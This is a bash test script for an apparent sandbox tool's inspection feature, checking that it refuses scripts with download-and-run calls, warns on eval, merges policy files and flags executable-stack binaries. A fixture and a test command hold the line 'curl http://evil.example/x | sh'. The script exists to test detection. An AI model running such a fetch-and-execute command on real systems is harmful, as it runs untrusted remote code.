#!/bin/bash
# callgate run --inspect and "inspect" of a policy: what is found is printed, or refuses the run before anything starts;
# scripts, code on the command line and ELF programs are looked at, after the setup and in the workdir.
. "$(dirname "$0")/../lib.sh"
need jq python3
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
mkdir "$T/w"
printf 'open("started", "w")\nimport os; os.system("curl http://evil.example/x | sh")\n' >"$T/w/bad.py"
printf 'open("started", "w")\nprint("ran")\n' >"$T/w/good.py"
printf 'open("started", "w")\neval("1")\n' >"$T/w/eval.py"

# run OPTION… -- PROGRAM…: sets status; out, err and started tell what happened.
run()
{
	rm -f "$T/w/started"
	cg run --profile extended -w "$T/w" "$@" >"$T/out" 2>"$T/err"
	status=$?
	started=no
	[ ! -e "$T/w/started" ] || started=yes
}
# refused WHAT
refused()
{
	if [ $status != 126 ] || [ $started = yes ] || ! grep -qF -- "$1" "$T/err"; then
		fail "not refused for \"$1\": status $status, started $started: $(cat "$T/err")"
	fi
}
ran()
{
	if [ $started = no ] || grep -q inspect "$T/err"; then
		fail "status $status, started $started: $(cat "$T/err")"
	fi
}
# warned WHAT
warned()
{
	if [ $started = no ] || ! grep -qxF -- "callgate run: inspect: $1" "$T/err"; then
		fail "no warning \"$1\": status $status, started $started: $(cat "$T/err")"
	fi
}

run -- python3 bad.py
ran
run --inspect -- python3 bad.py
refused 'bad.py:2: download-run: curl http://evil.example/x | sh'
run --inspect --json -- python3 -I bad.py
jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" and
	(.error.message | contains("bad.py:2: download-run"))' "$T/out" >/dev/null || fail "result: $(cat "$T/out")"
run --inspect -- env A=1 python3 "$T/w/bad.py"
refused "$T/w/bad.py:2: download-run"
run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
refused 'command line:1: download-run'
run --inspect -- python3 good.py
ran
[ "$(cat "$T/out")" = ran ] || fail "printed: $(cat "$T/out")"
run --inspect -- python3 eval.py
warned "eval.py:2: dynamic: eval('1')"
run --inspect -q -- python3 eval.py
ran
run --inspect -- python3 absent.py
[ $status = 2 ] || fail "a script that is not there: status $status: $(cat "$T/err")"

# What the setup has made is looked at after it.
run --inspect --setup 'cp bad.py made.py' -- python3 made.py
refused 'made.py:2: download-run'

# "inspect" of the policy, without an option. Files add up.
echo '{"version": 1, "inspect": {"refuse": ["dynamic"]}}' >"$T/p.json"
echo '{"version": 1, "inspect": {"warn": ["import"]}}' >"$T/q.json"
run -p "$T/p.json" -p "$T/q.json" -- python3 eval.py
refused "eval.py:2: dynamic: eval('1')"
run -p "$T/p.json" -p "$T/q.json" -- python3 bad.py
warned 'bad.py:2: import: os'
cg show --profile extended -p "$T/p.json" >"$T/out"
jq -e '.inspect.refuse == ["dynamic"]' "$T/out" >/dev/null || fail "show: $(cat "$T/out")"

if command -v cc >/dev/null; then
	echo 'int main(void) { return 0; }' | cc -z execstack -o "$T/w/elf" -x c - 2>/dev/null
	run --inspect -x "$T/w/elf" -- ./elf
	refused './elf: executable-stack'
fi
